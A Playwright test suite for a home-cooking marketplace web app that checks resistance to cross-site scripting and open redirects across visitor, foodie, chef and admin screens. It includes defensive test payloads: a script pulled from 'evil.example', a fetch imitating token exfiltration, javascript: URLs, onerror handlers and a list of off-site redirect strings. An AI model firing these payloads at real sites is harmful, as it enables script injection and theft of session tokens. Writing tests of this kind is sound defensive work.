import { join } from 'node:path';
import { readFile } from 'node:fs/promises';
import { expect, request, test, type Page } from '@playwright/test';
import { allPagePaths, matchPagePath } from '@homechef/contract/pages/page-paths';
import {
  adminScreens,
  chefScreens,
  foodieScreens,
  visitorScreens,
  waitUntilLoaded,
  type ScreenVisit,
} from './support/screens.ts';
import {
  createXssMarket,
  recordXssSignals,
  createXssTexts,
  rejectedRequests,
  rejectedProductFields,
  xssPayloads,
} from './support/xss-fixtures.ts';
import { restoreSession, loginDemoAdmin, createFoodie, uniqueSuffix } from './support/fixtures.ts';

/** Once: what a browser makes of a text does not depend on the width of its window. */
test.describe.configure({ mode: 'parallel' });

/** Elements and attributes that no screen of ours has: React attaches what happens, it does not write it down. */
const foreign =
  '#planted, [onload], [onerror], [src*=planted], iframe, base, [href^="javascript:" i], style, svg:not(:has(*))';

/** A document without inline scripts, styles and handlers; what stands in quotes is text. */
const inline = /<script(?![^>]*\ssrc=)|<style|<[a-z][^>]*\s(?:style|on[a-z]+)=/i;

async function goThere(page: Page, path: string) {
  const reply = await page.goto(path);
  const html = (await reply?.text()) ?? '';
  expect(html.replace(/"[^"]*"/g, '""'), path).not.toMatch(inline);
  await waitUntilLoaded(page);
}

/** Everything that stands on the page as text, in its fields and in its title. */
const textOf = (page: Page) =>
  page.evaluate(() => {
    const typed = [...document.querySelectorAll<HTMLInputElement>('input, textarea')].map(
      ({ value }) => value,
    );
    return [document.title, document.body.textContent, ...typed].join('\n');
  });

/** Writes a script into every field of the page that takes text, and sends the form of the last one. */
async function plantByHand(page: Page) {
  const texts = page
    .getByRole('main')
    .locator('input:not([type=checkbox], [type=radio], [type=file], [type=number], [readonly]), textarea');
  const fields = (await texts.all()).reverse();
  for (const field of fields) if (await field.isVisible()) await field.fill(xssPayloads.all('by-hand'));
  const form = page.getByRole('main').locator('form').last();
  const send = form.locator('button[type=submit]:enabled');
  if (fields.length > 0 && (await send.count()) === 1 && (await send.isVisible())) await send.click();
  await waitUntilLoaded(page);
}

/** Walks these screens; gives all the text that was seen. Nothing planted may run or become an element. */
async function walk(page: Page, visits: readonly ScreenVisit[]): Promise<string> {
  test.setTimeout(180_000);
  const heard = await recordXssSignals(page);
  const seen: string[] = [];
  for (const { name, path, act } of visits) {
    await test.step(name, async () => {
      await goThere(page, path);
      await act?.(page);
      seen.push(await textOf(page));
      await expect(page.locator(foreign), name).toHaveCount(0);
      await plantByHand(page);
      await expect(page.locator(foreign), `${name}, by hand`).toHaveCount(0);
    });
  }
  expect(heard.of).toEqual([]);
  return seen.join('\n');
}

function expectSeen(seen: string, texts: object) {
  const missing = Object.entries(texts).filter(([, text]) => !seen.includes(String(text)));
  expect(missing).toEqual([]);
}

const hostile = encodeURIComponent(xssPayloads.all('address'));
/** As a part of a path: with a dot it would be a file's. */
const hostilePart = encodeURIComponent(xssPayloads.line('address'));

test('a script planted anywhere is text to a visitor', { tag: '@desk' }, async ({ page }) => {
  const { texts, chef, tacos, guestOrder } = await createXssMarket();
  const visits = visitorScreens({ chef, tacos, order: guestOrder });
  const seen = await walk(page, [
    ...visits,
    { name: 'market-searched', path: `/mainpage?name=${encodeURIComponent(texts.search)}` },
    {
      name: 'market-hostile',
      path: `/mainpage?category=${hostile}&minPrice=${hostile}&sort=${hostile}&page=${hostile}`,
    },
    { name: 'product-hostile', path: `/mainpage/product/${hostilePart}` },
    { name: 'chef-hostile', path: `/chefitems/${hostilePart}` },
    { name: 'cart-hostile', path: `/cart/${hostilePart}?qty=${hostile}` },
    { name: 'order-hostile', path: `/order/guest/${hostilePart}` },
    { name: 'login-hostile', path: `/login?redirect=${hostile}` },
    { name: 'not-found-hostile', path: `/no/${hostilePart}?${hostile}#${hostile}` },
  ]);
  const { permit: _own, shippingAddress, ...rest } = texts;
  expectSeen(seen, { ...rest, ...shippingAddress });
});

test('a script planted anywhere is text to a foodie', { tag: '@desk' }, async ({ page }) => {
  const { texts, foodie, tacos, order } = await createXssMarket();
  await restoreSession(page, foodie);
  await page.evaluate(
    (address) => localStorage.setItem('shippingAddress', JSON.stringify(address)),
    texts.shippingAddress,
  );
  const seen = await walk(page, [
    ...foodieScreens({ cake: tacos, order }),
    { name: 'cheflist-hostile', path: `/cheflist?zip=${hostile}` },
    { name: 'profile-hostile', path: `/profile?q=${hostile}&page=${hostile}` },
  ]);
  const { foodieName, dish, description, comment, chefName, street, shippingAddress } = texts;
  expectSeen(seen, { foodieName, dish, description, comment, chefName, street, ...shippingAddress });
});

test('a script planted anywhere is text to a chef', { tag: '@desk' }, async ({ page }) => {
  const { texts, chef, tacos, order } = await createXssMarket();
  await restoreSession(page, chef);
  const seen = await walk(page, [
    { name: 'chef-product-picture', path: `/chef/product/${tacos._id}/edit`, act: choosePicture },
    ...chefScreens({ chef, tacos, order }),
    { name: 'chef-orders-hostile', path: `/cheforders?q=${hostile}&sort=${hostile}` },
    { name: 'chef-products-hostile', path: `/chef/productlist?q=${hostile}` },
  ]);
  const { chefName, permit, street, city, dish, description, foodieName, guestName } = texts;
  expectSeen(seen, { chefName, permit, street, city, dish, description, foodieName, guestName });
});

test('a script planted anywhere is text to an admin', { tag: '@desk' }, async ({ page }) => {
  const { texts, chef, foodie, tacos, order } = await createXssMarket();
  await restoreSession(page, await loginDemoAdmin());
  const found = (list: string, text: string) => `/admin/${list}?q=${encodeURIComponent(text)}`;
  const seen = await walk(page, [
    { name: 'admin-user-searched', path: found('userlist', texts.foodieName) },
    { name: 'admin-product-searched', path: found('productlist', texts.dish) },
    { name: 'admin-order-searched', path: found('orderlist', texts.guestName) },
    { name: 'admin-order', path: `/order/${order._id}` },
    { name: 'admin-foodie-edit', path: `/admin/user/${foodie._id}/edit` },
    ...adminScreens({ chef, tacos }),
    { name: 'admin-users-hostile', path: `/admin/userlist?q=${hostile}&page=${hostile}` },
  ]);
  const { chefName, foodieName, permit, dish, description, guestName } = texts;
  expectSeen(seen, { chefName, foodieName, permit, dish, description, guestName });
});

/** A picture with a script for a name. */
async function choosePicture(page: Page) {
  const buffer = await readFile(join(import.meta.dirname, 'files', 'elote.jpg'));
  const uploaded = page.waitForResponse('**/api/upload');
  await page
    .locator('input[type=file]')
    .setInputFiles({ name: `${xssPayloads.tiny()}.jpg`, mimeType: 'image/jpeg', buffer });
  expect(await (await uploaded).text()).toMatch(/^\/uploads\/[0-9a-f]+_[0-9a-f]+\.webp$/);
}

test('every page of the contract is among the screens that are walked', { tag: '@desk' }, () => {
  const id = 'a'.repeat(24);
  const [chef, tacos, cake, order] = [{ _id: id }, { _id: id }, { _id: id }, { _id: id }] as never[];
  const given = { chef, tacos, cake, order } as never;
  const paths = [visitorScreens, foodieScreens, chefScreens, adminScreens]
    .flatMap((screensOf) => screensOf(given))
    .map(({ path }) => path.split('?')[0] ?? '');
  expect(allPagePaths.filter((pattern) => !paths.some((path) => matchPagePath(pattern, path)))).toEqual([]);
});

test('fields that are no free text refuse a script, and name themselves', { tag: '@desk' }, async () => {
  const { chef, cake } = await createXssMarket();
  const api = await request.newContext({ baseURL: process.env.E2E_URL });
  const headers = { Authorization: `Bearer ${chef.token}` };
  const fieldsOf = async (reply: Awaited<ReturnType<typeof api.post>>) => {
    const { errors = [] } = (await reply.json()) as { errors?: { path: string }[] };
    return [reply.status(), [...new Set(errors.map(({ path }) => path))]];
  };
  for (const [path, data, field] of rejectedRequests(cake._id))
    expect(await fieldsOf(await api.post(`/api${path}`, { data })), `${path} ${field}`).toEqual([
      400,
      [field],
    ]);
  for (const [changes, field] of rejectedProductFields) {
    const reply = await api.put(`/api/products/${cake._id}`, { headers, data: { ...cake, ...changes } });
    expect(await fieldsOf(reply), field).toEqual([400, [field]]);
  }
  await api.dispose();
});

test('what comes past React all the same is stopped by the policy', { tag: '@desk' }, async ({ page }) => {
  const heard = await recordXssSignals(page);
  await page.goto('/mainpage');
  const tried = await page.evaluate(async (all) => {
    const attempts = {
      markup: () => document.body.insertAdjacentHTML('beforeend', all),
      handler: () => {
        const picture = document.createElement('img');
        picture.setAttribute('onerror', 'planted()');
        picture.src = 'data:image/png,x';
        document.body.append(picture);
      },
      script: () => {
        const script = document.createElement('script');
        script.textContent = 'planted()';
        document.body.append(script);
      },
      elsewhere: () => {
        const script = document.createElement('script');
        script.src = 'http://evil.example/x.js';
        document.body.append(script);
      },
      style: () => {
        const style = document.createElement('style');
        style.textContent = 'body { display: none }';
        document.body.append(style);
      },
      address: () => window.location.assign('javascript:planted()'),
      sent: () => void fetch('http://evil.example/?token').catch(() => undefined),
    };
    for (const attempt of Object.values(attempts)) {
      try {
        attempt();
      } catch {
        // Refused at once; what is refused later is heard of.
      }
    }
    await new Promise((resolve) => requestAnimationFrame(resolve));
    return Object.keys(attempts).length;
  }, xssPayloads.all('past'));
  await expect.poll(() => heard.of.length).toBeGreaterThanOrEqual(tried);
  expect(heard.of.filter((words) => /ran|dialog|asked/.test(words))).toEqual([]);
  await expect(page.getByRole('main')).toBeVisible();
});

test('nobody is led away from this site after signing in', { tag: '@desk' }, async ({ page }) => {
  await restoreSession(page, await createFoodie(createXssTexts(uniqueSuffix()).foodieName));
  const heard = await recordXssSignals(page);
  for (const away of [
    '//evil.example',
    '/\\evil.example',
    '/.//evil.example',
    '/\t/evil.example',
    '/\n/evil.example',
    'https://evil.example',
    'javascript:planted()',
    '%2F%2Fevil.example',
  ]) {
    await page.goto(`/login?redirect=${encodeURIComponent(away)}`);
    await expect(page, away).toHaveURL('/');
  }
  await page.goto(`/login?redirect=${encodeURIComponent('/%2F/evil.example')}`);
  await expect(page.getByRole('heading', { name: 'Page not found' })).toBeVisible();
  expect(heard.of).toEqual([]);
});
